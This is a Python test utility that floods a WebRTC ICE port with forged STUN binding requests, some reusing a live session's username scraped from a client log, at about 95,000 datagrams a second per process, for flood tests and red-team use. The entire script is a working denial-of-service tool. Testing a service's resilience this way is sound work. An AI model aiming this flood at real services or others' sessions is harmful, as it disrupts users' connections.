#!/usr/bin/python3
"""Strangers' STUN at the ICE port, for the tests (WebRTCFloodTests) and a red team.

random   - binding requests with random usernames (no session's), from PORTS source ports;
username - binding requests with the live session's username (read from a whip-client --verbose log, WATCH) and a
           wrong MESSAGE-INTEGRITY, from ports that are not the session's.
Each of PROCESSES processes sends RATE datagrams a second for SECONDS; prints how many were sent.
"""
import argparse
import multiprocessing
import os
import re
import socket
import struct
import time


def binding_request(username):
    name = username.encode()
    padded = name + b"\0" * (-len(name) % 4)
    attributes = struct.pack("!HH", 0x0006, len(name)) + padded
    attributes += struct.pack("!HH", 0x0024, 4) + os.urandom(4)          # PRIORITY
    attributes += struct.pack("!HH", 0x0008, 20) + os.urandom(20)        # MESSAGE-INTEGRITY, wrong
    return struct.pack("!HHI", 0x0001, len(attributes), 0x2112A442) + os.urandom(12) + attributes


def live_username(path, deadline):
    """The session's ICE username as its checks carry it: the answer's ufrag, then the offer's."""
    while time.monotonic() < deadline:
        try:
            text = open(path, errors="replace").read()
        except OSError:
            text = ""
        parts = text.split("answer:", 1)
        offered = re.findall(r"a=ice-ufrag:(\S+)", parts[0])
        answered = re.findall(r"a=ice-ufrag:(\S+)", parts[1]) if len(parts) == 2 else []
        if offered and answered:
            return f"{answered[0]}:{offered[-1]}"
        time.sleep(0.05)
    return None


def flood(arguments, username, sent):
    if username:
        messages = [binding_request(username) for _ in range(256)]
    else:
        messages = [binding_request(f"{os.urandom(4).hex()}:{os.urandom(4).hex()}") for _ in range(1024)]
    sockets = []
    for _ in range(arguments.ports):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setblocking(False)
        sockets.append(sock)
    target = (arguments.host, arguments.port)
    end = time.monotonic() + arguments.seconds
    count, batch = 0, 200
    started = time.monotonic()
    while time.monotonic() < end:
        for index in range(batch):
            try:
                sockets[index % len(sockets)].sendto(messages[(count + index) % len(messages)], target)
            except BlockingIOError:
                pass
        count += batch
        ahead = count / arguments.rate - (time.monotonic() - started)
        if ahead > 0:
            time.sleep(ahead)
    sent.value += count


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["random", "username"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--watch", help="whip-client --verbose log holding the answer: the flood starts after it")
    parser.add_argument("--start-after", type=float, default=1.0, help="seconds after the answer (with --watch)")
    parser.add_argument("--processes", type=int, default=2)
    parser.add_argument("--ports", type=int, default=32)
    parser.add_argument("--rate", type=float, default=95000, help="datagrams a second, each process")
    parser.add_argument("--seconds", type=float, default=12)
    arguments = parser.parse_args()
    username = None
    if arguments.watch:
        # The flood starts on the live session: its connectivity checks (before it has a socket of its own) are
        # not what is measured here.
        username = live_username(arguments.watch, time.monotonic() + 20)
        if not username:
            print("no answer seen", flush=True)
            return
        time.sleep(arguments.start_after)
    if arguments.mode == "random":
        username = None
    sent = multiprocessing.Value("q", 0)
    workers = [multiprocessing.Process(target=flood, args=(arguments, username, sent)) for _ in range(arguments.processes)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    print(f"flood {arguments.mode}: {sent.value} datagrams in {arguments.seconds} s", flush=True)


if __name__ == "__main__":
    main()
